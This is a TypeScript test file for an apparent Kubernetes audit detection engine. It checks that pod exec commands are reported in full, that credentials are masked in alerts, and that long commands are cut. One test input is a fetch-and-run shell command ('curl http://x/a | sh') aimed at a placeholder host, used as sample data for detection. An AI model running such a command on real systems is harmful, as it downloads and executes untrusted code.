// What an exec runs is told whole, and its credentials do not get into alerts.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isNodeEvent } from '@yagura/contracts';
import { createEngine, expandEvent, loadRules } from '../index.ts';
import { boundedEvent } from './bounded-event.ts';

const { rules } = loadRules([
  {
    path: 'r.yaml',
    text: `- rule: Exec
  id: exec
  desc: d
  source: k8s_audit
  condition: ka.exec.command exists and ka.uri exists and ka.uri.param[command] exists
  output: ran %ka.exec.command at %ka.uri
  priority: INFO
`,
  },
]);

function told(query: string, subresource = 'exec') {
  const uri = `/api/v1/namespaces/shop/pods/web/exec?${query}`;
  const expanded = expandEvent({ audit: { verb: 'create', resource: 'pods', subresource, uri } }, 0);
  assert.ok(expanded.ok && !isNodeEvent(expanded.event));
  const match = createEngine(rules).evaluate(expanded.event)[0];
  return { match, all: JSON.stringify([match?.message, match?.evidence, boundedEvent(expanded.event)]) };
}

test('all words of a command, as they were given', () => {
  const { match } = told('command=sh&command=-c&container=c&command=curl%20http://x/a%20|%20sh&stdin=true');
  assert.match(match?.message ?? '', /^ran sh -c curl http:\/\/x\/a \| sh at /);
  assert.equal(match?.evidence[0]?.value, 'sh -c curl http://x/a | sh');
});

test('what is no exec has no command', () => {
  assert.equal(told('command=sh', 'attach').match, undefined);
  assert.equal(told('container=c').match, undefined);
});

test('credentials are masked in message, evidence and event', () => {
  for (const query of [
    'command=mysql&command=-uroot&command=-phunter2',
    'command=app&command=--password&command=hunter2',
    'command=app&command=--password=my%20hunter2',
    'command=sh&command=-c&command=PGPASSWORD%3Dhunter2+psql',
    'command=curl&command=-H&command=authorization:%20Bearer%20hunter2&command=x',
    `command=sh&command=-c&command=${'true%3B'.repeat(400)}redis-cli+-a+hunter2`,
  ]) {
    const { match, all } = told(`container=c&${query}`);
    assert.ok(match !== undefined, query);
    assert.equal(all.includes('hunter2'), false, all);
    assert.match(all, /\[masked\]/);
    assert.match(all, /container=c/);
  }
});

test('an address without credentials is kept as it came', () => {
  const query = 'command=sh&command=-c&container=c&command=id%20%7C%20cat';
  assert.ok(told(query).all.includes(query));
});

test('a long command is cut', () => {
  const message = told(`command=echo&command=${'x'.repeat(5000)}`).match?.message ?? '';
  assert.ok(message.length < 1200, String(message.length));
});
